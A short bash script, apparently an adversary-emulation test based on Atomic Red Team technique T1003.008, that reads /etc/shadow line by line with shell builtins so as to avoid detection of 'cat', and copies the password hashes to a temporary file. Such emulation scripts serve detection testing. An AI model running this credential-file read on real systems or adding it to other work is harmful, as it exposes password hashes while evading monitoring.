#!/bin/bash
# technique: T1003.008
# tactic: credential_access
# what: /etc/shadow read line by line with shell builtins only (no cat to spot)
# source: ART T1003.008 #5 "Access /etc/{shadow,passwd,master.passwd} with shell builtins"
# cleanup: the copy is removed at exit
. "$(dirname "$0")/lib.sh"
d=$(vg_tmp)
while read -r line; do echo "$line" >> "$d/out"; done < /etc/shadow
